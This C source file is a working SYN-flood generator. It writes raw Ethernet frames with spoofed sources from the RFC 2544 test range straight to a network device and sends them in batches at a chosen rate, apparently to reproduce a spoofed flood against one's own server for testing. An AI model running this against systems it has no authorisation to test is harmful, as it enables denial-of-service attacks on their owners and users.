/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * SYNs of sources that never answer, each from another address and port: what a spoofed flood looks
 * like on the server's cable. Frames go straight to the device, past the kernel's own TCP/IP, and
 * come from an Ethernet address that nobody has: answers do not burden the honest client's kernel,
 * which runs on this machine, too.
 *
 *   syn_flood DEVICE MAC IPV4 PORT FRAMES_PER_S SECONDS      FRAMES_PER_S 0: as many as it takes
 *
 * Prints "sent N refused N seconds S": refused are those for which the device had no room.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64u
#define FRAME_BYTES 74u /* Ethernet, IPv4, TCP with the options of a Linux client */
#define SOURCES 131072u /* 198.18.0.0/15, set aside for such tests (RFC 2544) */

/* MSS 1460, SACK, timestamp, window scale 7 */
static const uint8_t syn_options[20] = {2, 4, 5, 180, 4, 2, 8, 10, 1, 2,
                                        3, 4, 0, 0,   0, 0, 1, 3,  3, 7};

static const uint8_t router_mac[6] = {2, 0, 0, 0, 198, 18};

static uint64_t now_ns(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

static uint32_t next_random(uint64_t *state)
{
    *state = *state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
    return (uint32_t)(*state >> 32);
}

static uint32_t sum_of(const uint8_t *bytes, uint32_t count)
{
    uint32_t sum = 0;
    for (uint32_t i = 0; i < count; i += 2)
        sum += (uint32_t)bytes[i] << 8 | bytes[i + 1];
    return sum;
}

static void put_checksum(uint8_t *at, uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    at[0] = (uint8_t)(~sum >> 8);
    at[1] = (uint8_t)~sum;
}

static void fill_frame(uint8_t *frame, const uint8_t *to, uint32_t destination, uint16_t port)
{
    uint8_t *ip = frame + 14, *tcp = frame + 34;
    memset(frame, 0, FRAME_BYTES);
    memcpy(frame, to, 6);
    memcpy(frame + 6, router_mac, 6);
    frame[12] = 8;
    ip[0] = 0x45;
    ip[3] = FRAME_BYTES - 14;
    ip[6] = 0x40;
    ip[8] = 64;
    ip[9] = IPPROTO_TCP;
    memcpy(ip + 16, &destination, 4);
    tcp[2] = (uint8_t)(port >> 8);
    tcp[3] = (uint8_t)port;
    tcp[12] = 40 << 2;
    tcp[13] = 2; /* SYN */
    tcp[14] = 0xfa;
    memcpy(tcp + 20, syn_options, sizeof(syn_options));
}

static void forge(uint8_t *frame, uint64_t *random)
{
    uint8_t *ip = frame + 14, *tcp = frame + 34;
    uint32_t source = htonl(0xc6120000u + next_random(random) % SOURCES);
    uint32_t sequence = next_random(random), port = 1024 + next_random(random) % 64000;
    memcpy(ip + 12, &source, 4);
    memcpy(tcp + 4, &sequence, 4);
    tcp[0] = (uint8_t)(port >> 8);
    tcp[1] = (uint8_t)port;
    memset(ip + 10, 0, 2);
    memset(tcp + 16, 0, 2);
    put_checksum(ip + 10, sum_of(ip, 20));
    put_checksum(tcp + 16, sum_of(ip + 12, 8) + IPPROTO_TCP + 40 + sum_of(tcp, 40));
}

static int open_device(const char *device)
{
    int wire = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll address = {.sll_family = AF_PACKET,
                                  .sll_ifindex = (int)if_nametoindex(device)};
    int yes = 1;
    if (wire < 0 || setsockopt(wire, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) != 0 ||
        bind(wire, (struct sockaddr *)&address, sizeof(address)) != 0) {
        perror(device);
        exit(1);
    }
    return wire;
}

static void wait_until(uint64_t due_ns)
{
    struct timespec due = {.tv_sec = (time_t)(due_ns / 1000000000u),
                           .tv_nsec = (long)(due_ns % 1000000000u)};
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &due, NULL);
}

static void flood(int wire, uint8_t (*frames)[FRAME_BYTES], double rate, double seconds)
{
    struct mmsghdr messages[BATCH] = {0};
    struct iovec pieces[BATCH];
    for (uint32_t i = 0; i < BATCH; i++) {
        pieces[i] = (struct iovec){frames[i], FRAME_BYTES};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &pieces[i], .msg_iovlen = 1};
    }
    uint64_t sent = 0, refused = 0, start_ns = now_ns(), random = start_ns;
    uint64_t end_ns = start_ns + (uint64_t)(seconds * 1e9);
    while (now_ns() < end_ns) {
        if (rate > 0)
            wait_until(start_ns + (uint64_t)((double)(sent + refused) / rate * 1e9));
        for (uint32_t i = 0; i < BATCH; i++)
            forge(frames[i], &random);
        for (uint32_t done = 0; done < BATCH;) {
            int count = sendmmsg(wire, messages + done, BATCH - done, 0);
            if (count < 0 && errno != ENOBUFS && errno != EAGAIN) {
                perror("sendmmsg");
                exit(1);
            }
            sent += count > 0 ? (uint64_t)count : 0;
            refused += count > 0 ? 0 : 1;
            done += count > 0 ? (uint32_t)count : 1;
        }
    }
    printf("sent %llu refused %llu seconds %.3f\n", (unsigned long long)sent,
           (unsigned long long)refused, (double)(now_ns() - start_ns) / 1e9);
}

int main(int count, char **words)
{
    static uint8_t frames[BATCH][FRAME_BYTES];
    uint8_t to[6];
    struct in_addr destination;
    if (count != 7 ||
        sscanf(words[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", to, to + 1, to + 2, to + 3, to + 4,
               to + 5) != 6 ||
        inet_pton(AF_INET, words[3], &destination) != 1) {
        fprintf(stderr, "syn_flood DEVICE MAC IPV4 PORT FRAMES_PER_S SECONDS\n");
        return 2;
    }
    int wire = open_device(words[1]);
    for (uint32_t i = 0; i < BATCH; i++)
        fill_frame(frames[i], to, destination.s_addr, (uint16_t)strtoul(words[4], NULL, 10));
    flood(wire, frames, strtod(words[5], NULL), strtod(words[6], NULL));
    close(wire);
    return 0;
}
